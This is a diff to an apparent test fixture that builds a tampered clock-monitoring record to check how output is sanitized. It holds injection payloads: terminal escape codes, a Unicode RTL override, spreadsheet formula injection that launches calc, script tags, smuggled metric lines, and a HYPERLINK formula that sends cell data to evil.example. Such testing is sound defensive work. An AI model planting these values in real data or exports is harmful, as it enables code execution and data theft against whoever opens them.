@@ -29,16 +29,7 @@ from lab import fleet_synthetic as fs  # noqa: E402
 
 
 def tampered_record():
-    esc = '\x1b'
-    result = fs.clock_result(8, 'ok_darwin')
-    clock = result['ansible_facts']['gotime_clock']
-    clock.update(reason='=HYPERLINK("http://x/")' + esc + '[2J\u202e' + 'R' * 3000, platform='Darwin' + esc + ']0;t\x07',
-                 offset='1 2\ninjected_metric 1', max_offset=float('nan'))
-    clock['host_sync'].update(daemon='@evil\u009b"\n# TYPE x gauge')
-    clock['host_sync']['launchd_sync'].update(error='-cmd|' + esc + '[31m', action='none"} 1\ninjected 1 #')
-    clock['host_sync']['mdm'] = {'managed': True, 'time_server': '+cmd|"/c calc"!A1<b>' + esc, 'servers': ['+cmd|"/c calc"!A1<b>' + esc],
-                                 'time_zone': '<script>alert(1)</script>', 'source': '@osascript\u202e', 'reason': None}
-    clock['certificates'][0].update(subject='<script>alert(1)</script>' + esc, seconds_until_expiry='soon')
+    result = fs.tampered_clock_result()
     go = fs.go_result('ok_insecure')
     go['env']['GOPROXY'] = '=HYPERLINK("http://evil.example/?"&A1,"x"),direct'
     return frec.make_record(result, go, origin='pull', recorder='agent-tampered\x07', now='2026-11-27T17:00:00Z',
